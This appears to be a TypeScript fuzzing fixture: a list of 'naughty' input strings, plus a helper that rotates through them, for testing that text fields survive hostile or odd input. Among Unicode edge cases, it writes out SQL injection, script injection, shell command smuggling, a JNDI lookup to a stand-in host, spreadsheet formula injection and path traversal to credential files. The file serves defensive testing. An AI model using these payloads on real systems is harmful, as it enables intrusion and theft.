/** Texts that have broken programs before: each may be refused or kept, none may break a call. */
export const NAUGHTY: readonly string[] = [
  // SQL
  "' or '1'='1",
  "'; drop table users; --",
  "1' union select null,null,null--",
  '") or ("a"="a',
  "admin'/*",
  '1; select pg_sleep(5)--',
  "' || (select version()) || '",
  '\\',
  '%',
  '_%_',
  '$1',
  ':id',
  '?',
  // pages and scripts
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '</textarea><iframe src=//example.org>',
  '&lt;b&gt;&#x27;&amp;',
  '<!--',
  ']]>',
  // templates, shells, formats
  '{{7*7}}',
  '$'.concat('{7*7}'),
  '<%= 7*7 %>',
  '#{7*7}',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '%s%s%s%n',
  '%d %x %p',
  '{0}',
  '$'.concat('{jndi:ldap://example.org/a}'),
  // cells of a table
  '=1+1',
  '+cmd|/c calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  // paths and addresses
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'file:///etc/passwd',
  'http://127.0.0.1:1/',
  'CON',
  '.htaccess',
  '%2e%2e%2f',
  // letters
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udc00b',
  '\u202egnp.exe',
  '\u200b\u200d\ufeff',
  'Z\u0301\u0302\u0303\u0304\u0305algo',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '𠮷野家 龘',
  'مرحبا بالعالم',
  'İıſK',
  'ﬁ①²',
  '\r\nSet-Cookie: a=b',
  'a\nb\tc',
  '\u001b[31mred',
  '\u007f',
  '\ufffe\uffff',
  // words that mean something elsewhere
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '0x1F',
  '1e400',
  '00000000000000000001',
  '2026-02-30',
  '9999-99-99',
  '   ',
  '',
]

/** Those that every text field is tried with; the others take turns. */
export const WORST: readonly string[] = [
  "'; drop table users; --",
  'a\u0000b',
  '\ud800',
  '%',
  'x'.repeat(10_000),
]

/** `count` members of a list, chosen by a name so that each run and each field has its own turn. */
export function inTurn<T>(list: readonly T[], name: string, count: number): T[] {
  const seed = [...name].reduce((sum, letter) => (sum * 31 + letter.charCodeAt(0)) % 100_003, 7)
  return Array.from(
    { length: Math.min(count, list.length) },
    (_, i) => list[(seed + i * 7) % list.length]!,
  )
}
